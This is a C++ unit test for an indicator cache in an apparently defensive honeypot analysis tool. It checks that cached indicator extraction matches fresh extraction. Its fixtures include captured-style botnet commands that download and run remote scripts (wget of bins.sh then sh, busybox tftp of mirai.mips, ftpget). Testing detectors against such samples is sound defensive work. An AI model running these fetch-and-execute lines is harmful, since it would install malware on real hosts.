// IndicatorCache: the same indicators as extracting each record afresh, for repeated records,
// records in between, and after the cache has emptied itself at its record limit.
#include "analyze/intel/indicator_cache.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace busytrap::analyze::intel {
namespace {

std::vector<std::pair<IndicatorType, std::string>> fresh(std::string_view record) {
  IndicatorExtractor extractor;
  std::vector<Indicator> out;
  extractor.extract(record, out);
  std::vector<std::pair<IndicatorType, std::string>> flat;
  for (const Indicator& i : out) flat.emplace_back(i.type, i.value);
  return flat;
}

std::vector<std::pair<IndicatorType, std::string>> cached(IndicatorCache& cache, std::string_view record) {
  std::vector<std::pair<IndicatorType, std::string>> flat;
  for (const Indicator& i : cache.get(record)) flat.emplace_back(i.type, i.value);
  return flat;
}

TEST(IndicatorCache, GivesWhatTheExtractorGives) {
  IndicatorCache cache;
  const std::vector<std::string> records = {
      "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
      "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 203.0.113.9",
      "enable",
      "/bin/busybox ABCDE",
      "ftpget -v -u anonymous -p x 192.0.2.1 ftp1.sh ftp1.sh; 192.0.2.1:8080",
  };
  for (int round = 0; round < 3; ++round) {
    for (const std::string& record : records) {
      EXPECT_EQ(cached(cache, record), fresh(record)) << record;
    }
  }
  EXPECT_FALSE(fresh(records[0]).empty());
}

TEST(IndicatorCache, StaysCorrectAcrossItsReset) {
  IndicatorCache cache;
  const std::string kept = "wget http://203.0.113.5/a.sh";
  for (std::size_t i = 0; i < IndicatorCache::kMaxRecords + 10; ++i) {
    const std::string record = "wget http://198.51.100.1/f" + std::to_string(i);
    ASSERT_EQ(cached(cache, record), fresh(record)) << i;
    if (i % 5000 == 0) {
      ASSERT_EQ(cached(cache, kept), fresh(kept)) << i;
    }
  }
  EXPECT_EQ(cached(cache, kept), fresh(kept));
}

}  // namespace
}  // namespace busytrap::analyze::intel
